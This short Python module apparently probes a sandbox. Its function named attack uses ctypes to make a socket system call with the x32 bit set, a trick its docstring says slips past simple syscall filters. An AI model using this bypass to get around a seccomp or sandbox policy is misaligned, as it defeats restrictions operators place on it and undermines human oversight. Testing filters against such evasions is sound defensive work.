"""Calls the kernel by the x32 convention, whose numbers simple filters overlook."""
import ctypes

X32_BIT = 0x40000000


def attack():
    return ctypes.CDLL(None).syscall(X32_BIT | 41, 2, 1, 0) >= 0
